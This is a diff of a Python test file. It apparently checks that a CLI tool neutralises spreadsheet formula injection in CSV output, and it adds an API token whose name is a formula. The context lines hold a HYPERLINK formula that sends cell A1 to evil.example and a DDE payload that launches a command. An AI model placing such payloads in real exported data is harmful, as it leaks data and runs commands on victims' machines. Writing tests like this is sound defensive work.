@@ -25,7 +25,7 @@ from relance.interfaces.cli.commands import all_commands
 from relance.interfaces.cli.machine import csv_cell, neutralised
 from relance.interfaces.cli.main import run
 from relance.interfaces.cli.tables import show_table
-from relance.services import users
+from relance.services import api_tokens, users
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 PAYER = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -47,6 +47,7 @@ LISTINGS: dict[str, list[str]] = {
     "risk": ["risk", "--as-of", "2026-03-20"],
     "advise": ["advise", "--as-of", "2026-03-20"],
     "user list": ["user", "list"],
+    "token list": ["token", "list"],
 }
 
 
@@ -84,6 +85,7 @@ def hostile(store: Store, tmp_path: Path) -> str:
                 "--rate", "2.40", "--source", PAYER, "--db", db]) == 0  # fmt: skip
     # A workbench login is an e-mail address, and "=" and "+" are letters of one (RFC 5322).
     users.add_user(store, ACCOUNT, Role.VIEWER, "correct horse battery staple")
+    api_tokens.create_token(store, ACCOUNT, '=HYPERLINK("http://x")')  # its name a formula
     return db
 
 
